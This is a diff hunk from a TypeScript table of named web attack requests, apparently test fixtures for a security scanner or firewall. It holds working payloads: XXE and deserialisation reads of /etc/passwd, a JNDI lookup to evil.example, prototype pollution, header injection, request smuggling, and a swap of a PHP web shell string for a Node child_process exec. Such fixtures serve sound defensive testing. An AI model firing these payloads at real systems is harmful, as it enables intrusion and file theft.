@@ -19,7 +19,7 @@ const attacks: Record<string, object> = {
   "xml-external-entity": { method: "POST", path: "/items", headers: { "content-type": "application/xml" }, body: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>` },
   "expression-injection": { path: "/", headers: { "user-agent": "${jndi:ldap://evil.example/a}" } },
   "deserialisation": query(`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`),
-  "code-injection": query("<?php system($_GET['cmd']); ?>"),
+  "code-injection": query("require('child_process').exec('id')"),
   "prototype-pollution": { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"__proto__":{"isAdmin":true}}` },
   "header-injection": query("en\r\nSet-Cookie: session=1"),
   "request-smuggling": query("x\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n"),
